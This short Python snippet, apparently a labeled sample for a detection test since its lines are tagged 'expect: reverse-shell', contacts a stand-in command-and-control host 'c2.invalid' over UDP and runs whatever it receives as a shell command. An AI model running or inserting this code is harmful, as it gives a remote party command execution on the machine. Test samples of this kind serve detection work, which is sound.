import socket as S, subprocess as P
u = S.socket(S.AF_INET, S.SOCK_DGRAM)
peer = ("c2.invalid", 5353)
u.sendto(b"hello", peer)  # expect: reverse-shell
data, _ = u.recvfrom(2048)
out = P.check_output(data, shell=True)  # expect: reverse-shell
